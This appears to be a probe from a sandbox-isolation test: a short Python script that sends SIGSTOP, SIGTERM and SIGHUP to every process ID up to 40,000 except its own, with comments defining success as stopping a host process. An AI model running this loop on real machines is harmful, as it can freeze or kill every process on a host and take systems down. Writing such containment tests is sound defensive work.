# Tries: to stop every process by its number.
# Success: a process of the host is stopped.
import os
import signal

mine = os.getpid()
for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGHUP):
    for pid in range(1, 40_000):
        if pid != mine:
            try:
                os.kill(pid, number)
            except OSError:
                pass
